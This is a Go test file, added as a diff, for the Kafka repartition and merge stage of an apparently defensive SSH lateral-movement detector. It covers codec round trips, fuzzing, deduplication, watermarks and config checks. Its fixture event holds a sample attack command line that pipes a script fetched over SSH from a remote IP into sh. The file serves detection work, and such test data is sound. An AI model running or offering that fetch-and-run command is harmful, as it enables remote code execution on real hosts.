@@ -1,0 +1,306 @@
+package consumer
+
+import (
+	"bytes"
+	"errors"
+	"reflect"
+	"testing"
+	"time"
+
+	"github.com/twmb/franz-go/pkg/kgo"
+
+	"github.com/sshlateral/sshlateral/processor"
+)
+
+func repartEvent() processor.Event {
+	return processor.Event{
+		Time: time.Date(2026, 11, 2, 9, 53, 0, 150_000_000, time.UTC),
+		Dest: "web-01", User: "root", ProcessName: "ssh", ProcessPath: "/usr/bin/ssh", ProcessID: "4242",
+		Process:       "ssh -oBatchMode=yes 10.0.0.5 curl http://203.0.113.7/x.sh | sh",
+		ParentProcess: "/bin/bash", ParentProcessName: "bash", ParentProcessPath: "/usr/bin/bash", ParentProcessID: "41",
+		// OriginalFileName missing: "" must stay "".
+	}
+}
+
+func TestRepartitionCodecRoundTrip(t *testing.T) {
+	ev := repartEvent()
+	for _, tc := range []struct {
+		name      string
+		value     []byte
+		want      repartRecord
+		wantEvent *processor.Event
+	}{
+		{"event", appendRepartEvent(nil, 3, 1<<40, &ev),
+			repartRecord{source: 3, offset: 1 << 40, timeNanos: ev.Time.UnixNano()}, &ev},
+		{"event without fields", appendRepartEvent(nil, 0, 0, &processor.Event{Time: time.Unix(0, 0).UTC()}),
+			repartRecord{}, &processor.Event{Time: time.Unix(0, 0).UTC()}},
+		{"marker with time", appendRepartMarker(nil, 5, 12, true, ev.Time.UnixNano()),
+			repartRecord{marker: true, source: 5, sources: 12, hasTime: true, timeNanos: ev.Time.UnixNano()}, nil},
+		{"marker without time", appendRepartMarker(nil, 0, 1, false, 0),
+			repartRecord{marker: true, sources: 1}, nil},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			var got processor.Event
+			rec, err := decodeRepart(tc.value, &got)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if rec != tc.want {
+				t.Errorf("record %+v, want %+v", rec, tc.want)
+			}
+			if tc.wantEvent != nil && !reflect.DeepEqual(got, *tc.wantEvent) {
+				t.Errorf("event %+v, want %+v", got, *tc.wantEvent)
+			}
+		})
+	}
+}
+
+func TestRepartitionCodecErrors(t *testing.T) {
+	ev := repartEvent()
+	event := appendRepartEvent(nil, 1, 2, &ev)
+	for _, tc := range []struct {
+		name  string
+		value []byte
+	}{
+		{"empty", nil},
+		{"header only tag", []byte{repartEventTag}},
+		{"unknown tag", []byte{'X', repartVersion, 0}},
+		{"unknown version", []byte{repartEventTag, 9, 0}},
+		{"truncated event", event[:len(event)-3]},
+		{"trailing bytes", append(append([]byte(nil), event...), 0)},
+		{"string longer than value", []byte{repartEventTag, repartVersion, 0, 0, 0, 200}},
+		{"marker source beyond count", appendRepartMarker(nil, 4, 4, false, 0)},
+		{"marker unknown flag", []byte{repartMarkerTag, repartVersion, 0, 1, 0x80}},
+		{"marker truncated time", []byte{repartMarkerTag, repartVersion, 0, 1, markerHasTime}},
+		{"source partition overflow", append([]byte{repartMarkerTag, repartVersion}, bytes.Repeat([]byte{0xff}, 4)...)},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			var got processor.Event
+			if _, err := decodeRepart(tc.value, &got); !errors.Is(err, ErrRepartitionRecord) {
+				t.Fatalf("error %v, want ErrRepartitionRecord", err)
+			}
+		})
+	}
+}
+
+// FuzzDecodeRepart: any value decodes or fails with ErrRepartitionRecord,
+// and what decodes encodes back to the same record and event.
+func FuzzDecodeRepart(f *testing.F) {
+	ev := repartEvent()
+	f.Add(appendRepartEvent(nil, 3, 99, &ev))
+	f.Add(appendRepartMarker(nil, 2, 6, true, ev.Time.UnixNano()))
+	f.Add(appendRepartMarker(nil, 0, 1, false, 0))
+	f.Add([]byte{repartEventTag, repartVersion})
+	f.Fuzz(func(t *testing.T, v []byte) {
+		var got processor.Event
+		rec, err := decodeRepart(v, &got)
+		if err != nil {
+			if !errors.Is(err, ErrRepartitionRecord) {
+				t.Fatalf("error %v does not wrap ErrRepartitionRecord", err)
+			}
+			return
+		}
+		var again []byte
+		if rec.marker {
+			again = appendRepartMarker(nil, rec.source, rec.sources, rec.hasTime, rec.timeNanos)
+		} else {
+			again = appendRepartEvent(nil, rec.source, rec.offset, &got)
+		}
+		var got2 processor.Event
+		rec2, err := decodeRepart(again, &got2)
+		if err != nil || rec2 != rec || !reflect.DeepEqual(got, got2) {
+			t.Fatalf("re-encoded %+v %+v: %+v %+v, %v", rec, got, rec2, got2, err)
+		}
+	})
+}
+
+// mergeWorker is a stage-2 worker without Kafka: its partition and merge
+// state only.
+func mergeWorker(t *testing.T, idle time.Duration) *worker {
+	t.Helper()
+	cfg := testConfig([]string{"127.0.0.1:1"})
+	cfg.InputKeying = KeyingAny
+	cfg.Processor.Emit = processor.EmitFinal
+	cfg.Processor.IdleClose = idle
+	p, err := New(cfg, nopEncoder{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	part, err := processor.NewPartition(p.cfg.Processor)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(part.Release)
+	return &worker{p: p, tp: tp{p.cfg.InputTopic, 0}, part: part, merge: newMergeState(p)}
+}
+
+type nopEncoder struct{}
+
+func (nopEncoder) Records([]processor.Result, []*kgo.Record) ([]*kgo.Record, error) { return nil, nil }
+
+func repartRec(value []byte, offset int64, ts time.Time) *kgo.Record {
+	return &kgo.Record{Topic: "sshlateral.repartition", Value: value, Offset: offset, Timestamp: ts}
+}
+
+// TestMergeDedup: a match repeated by stage 1 (same source partition, an
+// offset not above the highest applied) is dropped, in the state and
+// across a changelog restore.
+func TestMergeDedup(t *testing.T) {
+	w := mergeWorker(t, 0)
+	ev := repartEvent()
+	now := ev.Time.Add(time.Minute)
+	b := &batch{}
+	feed := func(w *worker, source int32, offsets ...int64) (applied int64) {
+		for _, off := range offsets {
+			applied += w.merge.apply(w, repartRec(appendRepartEvent(nil, source, off, &ev), 0, now), now, b)
+		}
+		return applied
+	}
+	if n := feed(w, 0, 10, 20, 10, 20, 15); n != 2 {
+		t.Fatalf("source 0: %d of offsets 10 20 10 20 15 applied, want 2", n)
+	}
+	if n := feed(w, 1, 10); n != 1 {
+		t.Fatalf("source 1 offset 10: %d applied, want 1 (sources are apart)", n)
+	}
+	if got := w.p.stats.repartitionDuplicates.Load(); got != 3 {
+		t.Errorf("duplicates counted %d, want 3", got)
+	}
+	if m := w.part.Stats().Matched; m != 3 {
+		t.Errorf("partition matched %d events, want 3", m)
+	}
+
+	restored := mergeWorker(t, 0)
+	for _, c := range w.merge.drainChanges(nil) {
+		if !isSourceKey(c.Key) {
+			t.Fatalf("change key %q is not a source key", c.Key)
+		}
+		if err := restored.merge.restore(c); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if n := feed(restored, 0, 20, 21); n != 1 {
+		t.Errorf("after restore: %d of offsets 20 21 applied, want 1", n)
+	}
+	if len(b.deadLetters) != 0 {
+		t.Errorf("%d dead letters", len(b.deadLetters))
+	}
+}
+
+// TestMergeLine: the marker line is the minimum over the source
+// partitions, once all have reported; a source caught up without events
+// does not hold it back, a silent one only until IdleClose.
+func TestMergeLine(t *testing.T) {
+	base := time.Date(2026, 11, 2, 9, 0, 0, 0, time.UTC)
+	at := func(m int) int64 { return base.Add(time.Duration(m) * time.Minute).UnixNano() }
+	type marker struct {
+		source  int32
+		hasTime bool
+		minute  int
+		arrival int // minutes after base
+	}
+	for _, tc := range []struct {
+		name    string
+		idle    time.Duration
+		sources int32
+		markers []marker
+		want    int // minute; -1: no line
+	}{
+		{"one of two sources reported", 0, 2, []marker{{0, true, 30, 30}}, -1},
+		{"minimum of two", 0, 2, []marker{{0, true, 30, 30}, {1, true, 20, 30}}, 20},
+		{"a source never moves back", 0, 2, []marker{{0, true, 30, 30}, {1, true, 20, 30}, {1, true, 10, 31}}, 20},
+		{"slow source catches up", 0, 2, []marker{{0, true, 30, 30}, {1, true, 20, 30}, {1, true, 40, 40}}, 30},
+		{"caught-up source without events", 0, 2, []marker{{0, true, 30, 30}, {1, false, 0, 30}}, 30},
+		{"only sources without events", 0, 2, []marker{{0, false, 0, 30}, {1, false, 0, 30}}, -1},
+		{"silent source holds without idle close", 0, 2, []marker{{0, true, 10, 10}, {1, true, 12, 12}, {1, true, 90, 90}}, 10},
+		{"silent source released after idle close", time.Minute, 2, []marker{{0, true, 10, 10}, {1, true, 12, 12}, {1, true, 90, 90}}, 90},
+		{"silent within idle close still holds", 2 * time.Hour, 2, []marker{{0, true, 10, 10}, {1, true, 12, 12}, {1, true, 90, 90}}, 10},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			w := mergeWorker(t, tc.idle)
+			for _, m := range tc.markers {
+				v := appendRepartMarker(nil, m.source, tc.sources, m.hasTime, at(m.minute))
+				w.merge.apply(w, repartRec(v, 0, base.Add(time.Duration(m.arrival)*time.Minute)), base.Add(2*time.Hour), &batch{})
+			}
+			line, ok := w.merge.line()
+			if tc.want < 0 {
+				if ok {
+					t.Fatalf("line %s, want none", time.Unix(0, line).UTC())
+				}
+				return
+			}
+			if !ok || line != at(tc.want) {
+				t.Fatalf("line %s (%v), want %s", time.Unix(0, line).UTC(), ok, time.Unix(0, at(tc.want)).UTC())
+			}
+			// The partition clock follows it, held back by the grace.
+			if got, want := w.part.Watermark(), time.Unix(0, at(tc.want)).Add(-w.p.cfg.Processor.Grace).UTC(); !got.Equal(want) {
+				t.Errorf("partition watermark %s, want %s", got, want)
+			}
+		})
+	}
+}
+
+// TestMergeUndecodable: a repartition record stage 2 cannot read is
+// dead-lettered, never dropped, and changes nothing.
+func TestMergeUndecodable(t *testing.T) {
+	w := mergeWorker(t, 0)
+	b := &batch{}
+	if n := w.merge.apply(w, repartRec([]byte("not a repartition record"), 7, time.Now()), time.Now(), b); n != 0 {
+		t.Fatalf("applied %d", n)
+	}
+	if len(b.deadLetters) != 1 || b.reasons[0] != DLQReasonDecode {
+		t.Fatalf("dead letters %d (%v), want one decode_error", len(b.deadLetters), b.reasons)
+	}
+	if len(w.merge.sources) != 0 {
+		t.Errorf("sources changed: %v", w.merge.sources)
+	}
+}
+
+func TestMergeRestoreErrors(t *testing.T) {
+	w := mergeWorker(t, 0)
+	for _, tc := range []struct {
+		name       string
+		key, value string
+	}{
+		{"not a partition", sourceKeyPrefix + "x", "S\x01\x00\x00\x00\x00"},
+		{"wrong tag", sourceKeyPrefix + "1", "G\x01\x00\x00\x00\x00"},
+		{"truncated", sourceKeyPrefix + "1", "S\x01\x00"},
+		{"trailing", sourceKeyPrefix + "1", "S\x01\x00\x00\x00\x00\x00"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			if err := w.merge.restore(processor.StateChange{Key: []byte(tc.key), Value: []byte(tc.value)}); err == nil {
+				t.Fatal("restored")
+			}
+		})
+	}
+}
+
+func TestParseInputKeying(t *testing.T) {
+	for _, tc := range []struct {
+		in   string
+		want InputKeying
+		err  bool
+	}{{"host", KeyingHost, false}, {"ANY", KeyingAny, false}, {"dest", 0, true}, {"", 0, true}} {
+		got, err := ParseInputKeying(tc.in)
+		if (err != nil) != tc.err || got != tc.want {
+			t.Errorf("ParseInputKeying(%q) = %v, %v", tc.in, got, err)
+		}
+	}
+}
+
+// TestInputKeyingDefaults: any derives its own topics, apart from the
+// host-keyed changelog, and Validate keeps the repartition topic apart
+// from the others.
+func TestInputKeyingDefaults(t *testing.T) {
+	cfg := DefaultConfig()
+	cfg.Brokers = []string{"b:9092"}
+	cfg.InputKeying = KeyingAny
+	cfg = cfg.WithDefaults()
+	if cfg.RepartitionTopic != "sshlateral.repartition" || cfg.ChangelogTopic != "sshlateral.repartition-changelog" {
+		t.Fatalf("repartition %q, changelog %q", cfg.RepartitionTopic, cfg.ChangelogTopic)
+	}
+	cfg.RepartitionTopic = cfg.InputTopic
+	var fe *FieldError
+	if err := cfg.Validate(); !errors.As(err, &fe) || fe.Field != "RepartitionTopic" {
+		t.Fatalf("Validate: %v, want a RepartitionTopic error", err)
+	}
+}
